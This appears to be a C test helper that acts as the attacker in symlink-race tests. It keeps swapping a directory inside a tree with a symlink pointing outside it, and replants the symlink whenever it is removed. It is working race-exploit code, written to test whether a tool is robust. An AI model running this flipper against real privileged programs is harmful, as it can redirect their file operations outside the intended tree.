/*
 * flipper.c -- the attacker of the symlink races: swaps P (a real
 * directory or file inside the tree) and Q (a symlink to OUTSIDE, kept
 * outside the tree) with renameat2(RENAME_EXCHANGE) in a tight loop, so
 * that P is a directory one instant and a symlink to OUTSIDE the next.
 *
 *   flipper P Q TARGET SECONDS
 *
 * If the tool under test removes the symlink while it sits at P, the
 * attacker plants a new one (symlink TARGET at P); if P became a fresh real
 * directory and Q holds the old one (no symlink left in the pair), Q is
 * moved aside and replaced by a new symlink.  Stops after SECONDS or on
 * SIGTERM/SIGINT and prints "swaps=N replants=N errors=N".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_sig(int s)
{
	(void)s;
	stop = 1;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int is_link(const char *p)
{
	struct stat st;

	return lstat(p, &st) == 0 && S_ISLNK(st.st_mode);
}

int main(int argc, char **argv)
{
	const char *p, *q, *target;
	double end;
	unsigned long swaps = 0, replants = 0, errors = 0, i;
	char aside[4096];

	if (argc != 5) {
		fprintf(stderr, "usage: flipper P Q TARGET SECONDS\n");
		return 2;
	}
	p = argv[1];
	q = argv[2];
	target = argv[3];
	end = now() + atof(argv[4]);
	signal(SIGTERM, on_sig);
	signal(SIGINT, on_sig);

	for (i = 0; !stop; i++) {
		if ((i & 1023) == 0) {
			if (now() > end)
				break;
			if (!is_link(p) && !is_link(q)) {
				snprintf(aside, sizeof(aside), "%s.aside.%lu", q, i);
				if (rename(q, aside) == 0 || errno == ENOENT) {
					if (symlink(target, q) == 0)
						replants++;
				}
			}
		}
		if (renameat2(AT_FDCWD, p, AT_FDCWD, q, RENAME_EXCHANGE) == 0) {
			swaps++;
			continue;
		}
		if (errno == ENOENT) {
			struct stat st;

			if (lstat(p, &st) < 0 && errno == ENOENT &&
			    symlink(target, p) == 0)
				replants++;
			if (lstat(q, &st) < 0 && errno == ENOENT &&
			    symlink(target, q) == 0)
				replants++;
		}
		errors++;
		if ((errors & 0xffff) == 0)
			usleep(100);	/* the parent is gone: do not spin hot */
	}
	printf("swaps=%lu replants=%lu errors=%lu\n", swaps, replants, errors);
	return 0;
}
